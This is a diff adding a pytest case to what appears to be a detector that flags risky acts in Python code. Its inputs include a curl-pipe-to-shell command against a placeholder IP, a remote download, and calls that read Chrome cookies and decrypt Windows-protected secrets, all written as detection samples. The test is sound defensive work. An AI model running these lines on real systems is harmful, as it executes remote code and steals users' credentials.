@@ -677,3 +677,16 @@ def test_code_is_read_however_its_imports_are_written(code: str) -> None:
     found = [fact for fact in read_python(code) if fact.act is Act.RUN_REMOTE]
 
     assert [fact.host for fact in found] == ["203.0.113.7"]
+
+
+@pytest.mark.parametrize(
+    ("code", "act"),
+    [
+        ("import commands\ncommands.getoutput('curl 203.0.113.7/x | sh')", Act.RUN_REMOTE),
+        ("import gdown\ngdown.download('http://203.0.113.7/a', 'a')", Act.FETCH),
+        ("import rookiepy\nrookiepy.chrome()", Act.READ_SECRET),
+        ("import win32crypt\nwin32crypt.CryptUnprotectData(x)", Act.READ_SECRET),
+    ],
+)
+def test_code_that_only_uses_a_rare_library_is_read(code: str, act: Act) -> None:
+    assert act in {fact.act for fact in read_python(code)}
